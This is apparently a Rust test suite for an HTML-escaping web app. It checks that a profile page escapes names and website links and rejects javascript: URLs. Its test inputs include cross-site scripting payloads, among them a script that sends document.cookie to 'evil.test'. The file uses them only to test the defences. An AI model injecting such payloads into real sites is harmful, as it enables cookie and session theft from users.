use std::time::Duration;

use html_escaping::{app, escape_attribute, escape_text, is_safe_url};

#[track_caller]
fn check<T: PartialEq + std::fmt::Debug>(sent: impl std::fmt::Debug, expected: T, got: T) {
    if got != expected {
        panic!("\nsent:     {sent:?}\nexpected: {expected:?}\ngot:      {got:?}\n");
    }
}

/// Starts the app on a free port and returns its base URL.
async fn start() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app()).await.unwrap() });
    format!("http://{address}")
}

/// Requests `GET /profile` with the given query parameters and returns the
/// status, the Content-Type and the body.
async fn get_profile(name: &str, website: &str) -> (u16, String, String) {
    let base = start().await;
    let request = reqwest::Client::new()
        .get(format!("{base}/profile"))
        .query(&[("name", name), ("website", website)])
        .send();
    let sent = format!("GET /profile with name = {name:?}, website = {website:?}");
    let response = tokio::time::timeout(Duration::from_secs(2), request)
        .await
        .unwrap_or_else(|_| panic!("\nthe server sent no answer within 2 s to {sent}\n"))
        .unwrap_or_else(|e| panic!("\nthe request {sent} failed: {e}\n"));
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap_or("<not text>").to_owned())
        .unwrap_or_default();
    let body = tokio::time::timeout(Duration::from_secs(2), response.text())
        .await
        .unwrap_or_else(|_| panic!("\nthe body did not arrive within 2 s for {sent}\n"))
        .unwrap();
    (status, content_type, body)
}

fn page(name_html: &str, href: &str) -> String {
    format!(
        "<!doctype html>\n<title>Profile</title>\n<h1>{name_html}</h1>\n<p><a href=\"{href}\">Website of {name_html}</a></p>\n"
    )
}

#[test]
fn escape_text_escapes_markup_characters() {
    for (sent, expected) in [
        ("<b>bold</b>", "&lt;b&gt;bold&lt;/b&gt;"),
        ("Tom & Jerry", "Tom &amp; Jerry"),
        (
            "<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
    ] {
        check(sent, expected.to_owned(), escape_text(sent));
    }
}

#[test]
fn escape_text_leaves_everything_else_alone() {
    for sent in [
        "",
        "Ada Lovelace",
        "O'Brien said \"hi\"",
        "Zoë, 東京, 🦀",
        "a = b; c % d",
    ] {
        check(sent, sent.to_owned(), escape_text(sent));
    }
}

#[test]
fn escapes_ampersands_exactly_once() {
    // Text that already looks escaped is still just text: "&lt;" typed by a
    // user must show up as "&lt;" on the page, not as "<".
    check("&lt;", "&amp;lt;".to_owned(), escape_text("&lt;"));
    check(
        "&quot;",
        "&amp;quot;".to_owned(),
        escape_attribute("&quot;"),
    );
}

#[test]
fn escape_attribute_escapes_quotes_too() {
    for (sent, expected) in [
        (
            "\" onmouseover=\"alert(1)",
            "&quot; onmouseover=&quot;alert(1)",
        ),
        ("it's", "it&#x27;s"),
        ("a<b>&c", "a&lt;b&gt;&amp;c"),
        ("https://quill.test/?a=1", "https://quill.test/?a=1"),
    ] {
        check(sent, expected.to_owned(), escape_attribute(sent));
    }
}

#[test]
fn only_http_and_https_urls_are_safe() {
    for (url, safe) in [
        ("https://quill.test/~ada", true),
        ("http://quill.test", true),
        ("HTTPS://QUILL.TEST", true),
        ("javascript:alert(1)", false),
        ("JavaScript:alert(1)", false),
        (" javascript:alert(1)", false),
        ("data:text/html,<script>alert(1)</script>", false),
        ("//evil.test/", false),
        ("/relative/path", false),
        ("https:", false),
        ("", false),
    ] {
        check(url, safe, is_safe_url(url));
    }
}

#[tokio::test]
async fn renders_a_plain_profile() {
    let got = get_profile("Ada Lovelace", "https://quill.test/~ada").await;
    check(
        format_args!("GET /profile?name=Ada+Lovelace&website=https://quill.test/~ada"),
        (
            200,
            "text/html; charset=utf-8".to_owned(),
            page("Ada Lovelace", "https://quill.test/~ada"),
        ),
        got,
    );
}

#[tokio::test]
async fn a_script_in_the_name_is_shown_not_run() {
    let name = "<script>fetch('//evil.test/?c='+document.cookie)</script>";
    let (_, _, body) = get_profile(name, "https://quill.test").await;
    check(
        format_args!("GET /profile with name = {name:?}"),
        page(
            "&lt;script&gt;fetch('//evil.test/?c='+document.cookie)&lt;/script&gt;",
            "https://quill.test",
        ),
        body,
    );
}

#[tokio::test]
async fn a_website_cannot_break_out_of_its_attribute() {
    let website = "https://quill.test/\" onmouseover=\"alert(1)";
    let (_, _, body) = get_profile("Ada", website).await;
    check(
        format_args!("GET /profile with website = {website:?}"),
        page(
            "Ada",
            "https://quill.test/&quot; onmouseover=&quot;alert(1)",
        ),
        body,
    );
}

#[tokio::test]
async fn a_javascript_url_becomes_a_harmless_link() {
    let website = "javascript:alert(document.domain)";
    let (_, _, body) = get_profile("Ada", website).await;
    check(
        format_args!("GET /profile with website = {website:?}"),
        page("Ada", "#"),
        body,
    );
}
